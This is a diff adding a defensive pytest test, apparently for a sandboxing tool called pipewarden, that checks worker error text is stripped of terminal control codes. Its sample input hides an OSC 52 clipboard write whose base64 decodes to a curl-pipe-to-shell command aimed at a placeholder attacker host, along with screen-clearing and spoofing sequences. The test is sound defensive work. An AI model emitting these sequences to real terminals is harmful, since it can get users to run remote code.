@@ -319,6 +319,22 @@ def test_file_watches_are_refused():
         assert hook(w, "watch")["inotify_init1"]["errno"] == 0
 
 
+_OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2F0dGFja2VyLmludmFsaWQveCB8IHNoCg==\x07"
+
+
+def test_worker_error_text_reaches_the_host_without_terminal_controls():
+    """Red team 9 W3: an error message wrote the host's clipboard (OSC 52) and cleared its screen."""
+    hostile = _OSC52 + "\x1b]0;PWNED\x07\x1b[2J\x1b[3J\rpipewarden: finished OK\x9b\u202eevil\tok\nnext"
+    with worker() as w:
+        with pytest.raises(PipewardenError) as info:
+            hook(w, "raise", hostile)
+    text = str(info.value)
+    for bad in ("\x1b", "\x07", "\r", "\x9b", "\u202e"):
+        assert bad not in text and bad not in info.value.what
+    # shown, not acted on: the user still sees what the worker sent
+    assert "\\x1b]52;c;Y3Vy" in info.value.what and "\\u202eevil\tok\nnext" in info.value.what
+
+
 # ----------------------------------------------------------------------------- resources
 
 
